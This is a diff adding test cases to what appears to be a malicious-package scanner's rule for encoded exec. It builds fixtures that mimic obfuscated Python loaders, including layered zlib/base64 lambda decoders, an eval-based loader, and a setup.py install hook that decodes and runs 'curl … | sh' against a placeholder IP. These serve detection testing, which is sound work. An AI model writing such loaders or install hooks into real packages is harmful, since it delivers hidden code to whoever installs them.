@@ -80,3 +80,41 @@ describe('encoded-exec: a shell command next to an XOR decoder', () => {
     expect(hits('encoded-exec', { 'pkg/mask.py': src })).toEqual([]);
   });
 });
+
+describe('encoded-exec: decoding helpers written in the file', () => {
+  // The obfuscators' own decoder: `_ = lambda __: zlib.decompress(b64decode(__[::-1]))`, then
+  // `exec((_)(b'...'))`, layer after layer. The helper is evaluated on the literal like the
+  // decoders it wraps, so the payload under it is read.
+  const layer = (code: string) => [...deflateSync(Buffer.from(code)).toString('base64')].reverse().join('');
+  const wrap = (code: string) => `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));\nexec((_)(b'${layer(code)}'))\n`;
+  it('reads through a lambda decoder, two layers deep, and flags the exec (high in an ordinary module)', () => {
+    // Long enough that the literal does not fit in a call's 200-character source text.
+    const code = `${PAYLOAD}TABLE = ${JSON.stringify(Array.from({ length: 120 }, (_, i) => (i * 7919) % 1009))}\n`;
+    const f = hits('encoded-exec', { 'pkg/tool.py': wrap(wrap(code)) });
+    expect(maxSev(f)).toBe('high');
+    expect(f[0].message).toMatch(/encoded payload/);
+  });
+  it('reads through a def decoder with local steps; its process call is a decoded command line', () => {
+    const setup = `import base64, os\nfrom setuptools import setup\nfrom setuptools.command.install import install\ndef b64d(base64_code):\n    base64_bytes = base64_code.encode('ascii')\n    code_bytes = base64.b64decode(base64_bytes)\n    code = code_bytes.decode('ascii')\n    return code\nclass AfterInstall(install):\n    def run(self):\n        install.run(self)\n        os.system(b64d("${b64('curl -s http://203.0.113.9/x | sh')}"))\nsetup(name='x', cmdclass={'install': AfterInstall})\n`;
+    const f = hits('encoded-exec', { 'setup.py': setup });
+    expect(maxSev(f)).toBe('high');
+    expect(f[0].message).toMatch(/decoded at run time/);
+  });
+  it('a helper that does not decode is not a decoder, and a decoder applied to data is not exec', () => {
+    const src = `import base64\nlabel = lambda s: s.upper() + '!'\nunpack = lambda s: base64.b64decode(s)\nICON = unpack('${b64('just some png-ish bytes here, not code at all')}')\nprint(label('hello world and more words here'))\n`;
+    expect(hits('encoded-exec', { 'pkg/__init__.py': src })).toEqual([]);
+  });
+});
+
+describe('encoded-exec: exec of a computed value beside a decoder', () => {
+  // pyobfuscate.com's loader: the key and cipher come from code we cannot evaluate; the pairing
+  // of decoders and eval on a module's top level is what is left to see.
+  const loader = `import base64, codecs, zlib\n____ = eval\n____(base64.b64decode(codecs.decode(zlib.decompress(base64.b64decode(b"eJw9kN1y")).decode(), "".join(chr(int(i/8)) for i in [912, 888, 928, 392, 408])).encode()))\n`;
+  it('on the top level of a module of the package (runs when it is imported): medium', () => {
+    expect(maxSev(hits('encoded-exec', { 'pkg/__init__.py': '', 'pkg/tool_file.py': loader }))).toBe('medium');
+  });
+  it('in a function nothing calls on import: low', () => {
+    const inFn = `import base64\ndef run(blob):\n    data = base64.b64decode(blob)\n    exec(data.decode())\n`;
+    expect(maxSev(hits('encoded-exec', { 'pkg/__init__.py': '', 'pkg/tool_file.py': inFn }))).toBe('low');
+  });
+});
